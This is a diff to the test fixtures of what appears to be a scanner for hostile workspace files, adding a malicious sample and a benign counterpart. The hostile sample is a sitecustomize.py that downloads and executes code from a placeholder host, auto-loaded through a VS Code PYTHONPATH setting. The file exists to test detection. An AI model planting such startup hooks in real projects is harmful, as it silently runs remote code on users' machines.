@@ -241,6 +241,16 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("app.py", 4),
         ),
+        "a start file within a package, which the environment names": Sample(
+            {
+                "tool/__init__.py": "",
+                "tool/start/sitecustomize.py": "import requests\nexec(requests.get('https://a.invalid').text)\n",
+                ".vscode/settings.json": '{\n"terminal.integrated.env.linux": '
+                '{"PYTHONPATH": "${workspaceFolder}/tool/start"}}',
+            },
+            "block",
+            (".vscode/settings.json", 2),
+        ),
         "a test asks the server of its page": Sample(
             {"search.spec.js": _SPEC, "tox.ini": "[testenv]\ncommands = pytest\n"}, "review", ("search.spec.js", 7)
         ),
@@ -280,6 +290,10 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "a.pth": _NAMESPACE.format(" ", "('a', 'b')") + "; m and setattr(sys.modules['a'], 'b', m)\n"
         },
         "a line that imports what is there": {"a.pth": "import os\nsrc\n"},
+        "a start file within a package": {
+            "tool/__init__.py": "",
+            "tool/start/sitecustomize.py": "print(1)\n",
+        },
         "coverage is measured where it is installed": {
             "sitecustomize.py": "try:\n    import coverage\nexcept ImportError:\n    pass\nelse:\n"
             "    coverage.process_startup()\n"
